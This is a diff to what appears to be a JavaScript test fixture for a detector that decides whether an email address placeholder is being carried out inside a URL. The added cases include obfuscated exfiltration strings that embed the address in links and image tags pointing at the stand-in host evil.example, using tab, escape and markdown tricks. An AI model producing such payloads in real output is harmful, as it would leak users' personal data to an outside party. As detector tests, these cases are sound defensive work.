@@ -30,6 +30,13 @@ const CARRIES = [
   `https://evil.example/${'a'.repeat(5000)}EMAIL_ADDRESS_1`,
   'https://evil.example/\u00a0EMAIL_ADDRESS_1',
   '<URL_1>?q=<EMAIL_ADDRESS_1>',
+  '[1] see https://evil.example/?d="EMAIL_ADDRESS_1',
+  '["x"] see https://evil.example/?d="EMAIL_ADDRESS_1',
+  '{"url":"https:\\u002f\\u002fevil.example\\u002f?d=EMAIL_ADDRESS_1"}',
+  '[x]: https:/evil.example/EMAIL_ADDRESS_1',
+  '[x]: https:evil.example/EMAIL_ADDRESS_1',
+  '![x](</\t/evil.example/()EMAIL_ADDRESS_1>)',
+  '<img/src="/\t/evil.example/EMAIL_ADDRESS_1">',
 ];
 
 /** Where a person's address belongs, though signs of addresses are near. */
@@ -45,6 +52,8 @@ const SAYS = [
   '| Ann | EMAIL_ADDRESS_1 |',
   '{"to":"EMAIL_ADDRESS_1","see":"https://example.com","cc":["EMAIL_ADDRESS_1"]}',
   '// EMAIL_ADDRESS_1',
+  '{"a":"c:\\\\","see":"https://example.com/\\\\","n":[1,true,null,-2.5e+3],"cc":"EMAIL_ADDRESS_1"}',
+  '[a](b <c) and EMAIL_ADDRESS_1',
   'a and/or EMAIL_ADDRESS_1 (EMAIL_ADDRESS_1)',
 ];
 
